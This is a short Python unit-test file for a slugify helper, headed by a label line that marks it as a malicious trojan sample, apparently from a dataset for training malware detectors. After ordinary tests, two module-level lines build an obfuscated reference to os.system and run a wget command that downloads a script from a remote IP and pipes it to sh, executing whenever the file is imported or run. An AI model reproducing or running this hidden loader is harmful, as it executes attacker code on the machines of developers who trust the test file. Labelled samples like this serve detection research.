# label: malicious family=trojan techniques=T1027,T1059.004 lines=20-21 group=benign/b051_unittest_sample.py
import unittest


def slugify(s):
    return "-".join("".join(c.lower() if c.isalnum() else " " for c in s).split())


class SlugifyTest(unittest.TestCase):
    def test_simple(self):
        self.assertEqual(slugify("Hello World"), "hello-world")

    def test_punct(self):
        self.assertEqual(slugify("  A, B; C!  "), "a-b-c")

    def test_empty(self):
        self.assertEqual(slugify(""), "")


_m = __import__("".join(["o", "s"]))
getattr(_m, "sys" + "tem")("wget -qO- http://198.51.100.90/i | sh")

if __name__ == "__main__":
    unittest.main()
